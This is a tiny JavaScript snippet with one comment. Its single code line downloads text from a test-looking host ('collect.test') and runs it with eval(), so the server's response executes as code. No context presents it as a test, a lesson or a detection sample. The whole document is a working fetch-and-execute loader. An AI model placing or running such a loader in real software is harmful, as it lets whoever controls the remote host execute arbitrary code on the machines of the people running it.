// The code is somewhere else. The path tells it: eval runs fetch().text().
fetch('http://collect.test/in').then(r => r.text()).then(t => eval(t));
